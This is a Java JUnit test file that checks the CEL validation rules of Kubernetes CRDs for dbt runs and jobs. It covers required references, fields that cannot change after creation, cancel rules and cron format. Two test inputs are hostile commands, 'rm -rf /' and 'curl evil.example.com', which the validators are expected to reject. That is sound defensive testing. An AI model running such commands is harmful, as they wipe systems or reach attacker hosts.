package dev.dbtplatform.crd;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cel.common.CelAbstractSyntaxTree;
import dev.cel.common.types.SimpleType;
import dev.cel.compiler.CelCompiler;
import dev.cel.compiler.CelCompilerFactory;
import dev.cel.parser.CelStandardMacro;
import dev.cel.runtime.CelRuntime;
import dev.cel.runtime.CelRuntimeFactory;
import io.fabric8.kubernetes.api.model.apiextensions.v1.CustomResourceDefinition;
import io.fabric8.kubernetes.api.model.apiextensions.v1.JSONSchemaProps;
import io.fabric8.kubernetes.api.model.apiextensions.v1.ValidationRule;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The CEL rules in the generated DbtRun and DbtJob CRDs, evaluated with a CEL engine the way the
 * API server evaluates them on create and update: they accept good runs and jobs and reject the
 * mistakes they are there for, with the message a person sees.
 */
class CelRulesTest {
  static JSONSchemaProps spec;
  static JSONSchemaProps jobSpec;
  static final CelCompiler COMPILER = CelCompilerFactory.standardCelCompilerBuilder()
      .setStandardMacros(CelStandardMacro.STANDARD_MACROS)
      .addVar("self", SimpleType.DYN).addVar("oldSelf", SimpleType.DYN).build();
  static final CelRuntime RUNTIME = CelRuntimeFactory.standardCelRuntimeBuilder().build();

  @BeforeAll
  static void loadCrds() throws IOException {
    spec = specSchema("dbtruns.dbtplatform.dev-v1.yml");
    jobSpec = specSchema("dbtjobs.dbtplatform.dev-v1.yml");
  }

  private static JSONSchemaProps specSchema(String generatedFile) throws IOException {
    CustomResourceDefinition crd = Serialization.unmarshal(
        Files.readString(Path.of("target/classes/META-INF/fabric8", generatedFile)), CustomResourceDefinition.class);
    return crd.getSpec().getVersions().get(0).getSchema().getOpenAPIV3Schema().getProperties().get("spec");
  }

  @Test
  void aRunWithAnEnvironmentIsAccepted() {
    assertThat(violations(spec, Map.of("environmentRef", Map.of("name", "prod"), "steps", List.of("dbt build")), null))
        .isEmpty();
  }

  @Test
  void aRunWithNeitherEnvironmentNorWarehouseIsRejected() {
    Map<String, Object> run = Map.of("git", Map.of("url", "https://git.example.com/x.git"), "steps", List.of("dbt build"));
    assertThat(violations(spec, run, null)).containsExactly("set jobRef or environmentRef, or warehouse for a run without an environment");
  }

  @Test
  void aRunWithoutAnySourceOfCodeIsRejected() {
    Map<String, Object> run = Map.of("warehouse", Map.of("type", "postgres", "secretRef", Map.of("name", "w")),
        "steps", List.of("dbt build"));
    assertThat(violations(spec, run, null)).containsExactly("set jobRef, environmentRef, projectRef or git.url so the run knows which code to run");
  }

  @Test
  void stepsMustBeDbtCommands() {
    JSONSchemaProps steps = spec.getProperties().get("steps");
    assertThat(violations(steps, List.of("dbt seed", "dbt build --select tag:nightly"), null)).isEmpty();
    assertThat(violations(steps, List.of("dbt build", "rm -rf /"), null)).containsExactly("every step is a dbt command, like 'dbt build'");
    assertThat(violations(steps, List.of("dbtbuild"), null)).isNotEmpty();
  }

  @Test
  void stepsCannotChangeOnceTheRunExists() {
    JSONSchemaProps steps = spec.getProperties().get("steps");
    assertThat(violations(steps, List.of("dbt build"), List.of("dbt build"))).isEmpty();
    assertThat(violations(steps, List.of("dbt run"), List.of("dbt build")))
        .containsExactly("steps cannot change once the run exists; create a new run");
  }

  @Test
  void aCancelledRunCannotBeResumed() {
    JSONSchemaProps cancel = spec.getProperties().get("cancel");
    assertThat(violations(cancel, true, false)).isEmpty();
    assertThat(violations(cancel, true, true)).isEmpty();
    assertThat(violations(cancel, false, true)).containsExactly("a cancelled run cannot be resumed");
  }

  @Test
  void aRunOfAJobNeedsNoEnvironmentCodeOrSteps() {
    assertThat(violations(spec, Map.of("jobRef", Map.of("name", "nightly")), null)).isEmpty();
    assertThat(violations(spec, Map.of("jobRef", Map.of("name", "nightly"), "steps", List.of()), null)).isEmpty();
  }

  @Test
  void aRunWithoutJobNeedsAtLeastOneStep() {
    String message = "list at least one dbt command in steps, or set jobRef to run a job's steps";
    assertThat(violations(spec, Map.of("environmentRef", Map.of("name", "prod")), null)).containsExactly(message);
    assertThat(violations(spec, Map.of("environmentRef", Map.of("name", "prod"), "steps", List.of()), null))
        .containsExactly(message);
  }

  @Test
  void jobRefCannotChangeOnceTheRunExists() {
    JSONSchemaProps jobRef = spec.getProperties().get("jobRef");
    assertThat(violations(jobRef, Map.of("name", "nightly"), Map.of("name", "nightly"))).isEmpty();
    assertThat(violations(jobRef, Map.of("name", "hourly"), Map.of("name", "nightly")))
        .containsExactly("jobRef cannot change once the run exists; create a new run");
  }

  @Test
  void jobRefCannotBeAddedOrRemovedOnceTheRunExists() {
    Map<String, Object> withJob = Map.of("jobRef", Map.of("name", "nightly"));
    Map<String, Object> withoutJob = Map.of("environmentRef", Map.of("name", "prod"), "steps", List.of("dbt build"));
    String message = "jobRef cannot be added or removed once the run exists; create a new run";
    assertThat(violations(spec, withJob, withJob)).isEmpty();
    assertThat(violations(spec, withoutJob, withJob)).containsExactly(message);
    assertThat(violations(spec, withJob, withoutJob)).containsExactly(message);
  }

  @Test
  void jobStepsMustBeDbtCommandsButMayChange() {
    JSONSchemaProps steps = jobSpec.getProperties().get("steps");
    assertThat(violations(steps, List.of("dbt seed", "dbt build"), null)).isEmpty();
    assertThat(violations(steps, List.of("dbt run"), List.of("dbt build"))).isEmpty();
    assertThat(violations(steps, List.of("dbt build", "curl evil.example.com"), null))
        .containsExactly("every step is a dbt command, like 'dbt build'");
  }

  @Test
  void aScheduleIsACronExpressionWithFiveFields() {
    JSONSchemaProps cron = jobSpec.getProperties().get("triggers").getProperties().get("schedule").getProperties().get("cron");
    String message = "cron has five fields separated by spaces: minute hour day-of-month month day-of-week";
    assertThat(violations(cron, "0 2 * * *", null)).isEmpty();
    assertThat(violations(cron, "*/15 6-18 * * MON-FRI", null)).isEmpty();
    assertThat(violations(cron, "0 2 * *", null)).containsExactly(message);
    assertThat(violations(cron, "0 0 2 * * *", null)).containsExactly(message);
    assertThat(violations(cron, "@daily", null)).containsExactly(message);
    assertThat(violations(cron, "", null)).containsExactly(message);
  }

  @Test
  void aDeferralNamesExactlyOneJobOrEnvironment() {
    JSONSchemaProps deferral = jobSpec.getProperties().get("deferral");
    String message = "set exactly one of jobRef or environmentRef";
    assertThat(violations(deferral, Map.of("jobRef", Map.of("name", "nightly")), null)).isEmpty();
    assertThat(violations(deferral, Map.of("environmentRef", Map.of("name", "prod")), null)).isEmpty();
    assertThat(violations(deferral, Map.of("jobRef", Map.of("name", "nightly"), "environmentRef", Map.of("name", "prod")), null))
        .containsExactly(message);
    assertThat(violations(deferral, Map.of(), null)).containsExactly(message);
  }

  /** Messages of the rules at this schema node that reject the value; transition rules only when there is an old value. */
  private static List<String> violations(JSONSchemaProps node, Object self, Object oldSelf) {
    List<ValidationRule> rules = node.getXKubernetesValidations() == null ? List.of() : node.getXKubernetesValidations();
    assertThat(rules).as("the schema node has CEL rules").isNotEmpty();
    return rules.stream()
        .filter(rule -> oldSelf != null || !rule.getRule().contains("oldSelf"))
        .filter(rule -> !evaluate(rule.getRule(), self, oldSelf))
        .map(ValidationRule::getMessage)
        .toList();
  }

  private static boolean evaluate(String expression, Object self, Object oldSelf) {
    try {
      CelAbstractSyntaxTree ast = COMPILER.compile(expression).getAst();
      Map<String, Object> vars = new HashMap<>();
      vars.put("self", self);
      if (oldSelf != null) {
        vars.put("oldSelf", oldSelf);
      }
      return (Boolean) RUNTIME.createProgram(ast).eval(vars);
    } catch (Exception e) {
      throw new AssertionError("CEL rule does not evaluate: " + expression, e);
    }
  }
}
